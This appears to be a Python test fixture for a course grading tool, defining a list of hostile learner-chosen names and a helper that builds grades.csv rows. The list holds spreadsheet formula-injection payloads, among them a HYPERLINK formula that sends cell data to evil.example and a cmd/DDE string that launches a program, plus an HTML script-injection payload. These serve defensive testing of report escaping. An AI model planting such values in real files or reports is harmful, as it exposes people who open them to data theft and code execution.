"""Rows of grades.csv as the grader writes them, and the names a learner can choose to attack a
report with."""

from __future__ import annotations

# what a learner can choose: a folder name, an LMS display name, a notebook's file name
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "<img src=x onerror=alert(1)>",
    "ann | 35/35 | | x",
    "**bold** [link](http://evil.example) `code` &lt;",
]


def row(
    sub: str,
    nb: str,
    check: str,
    passed: bool,
    mistake: str = "",
    reason: str = "",
    note: str = "",
    feedback: str | None = None,
) -> dict:
    """A row of grades.csv as the grader writes it."""
    return {
        "submission": sub,
        "notebook": nb,
        "check": check,
        "passed": "true" if passed else "false",
        "mistake": mistake,
        "reason": reason,
        "note": note,
        "feedback": reason if feedback is None else feedback,
    }
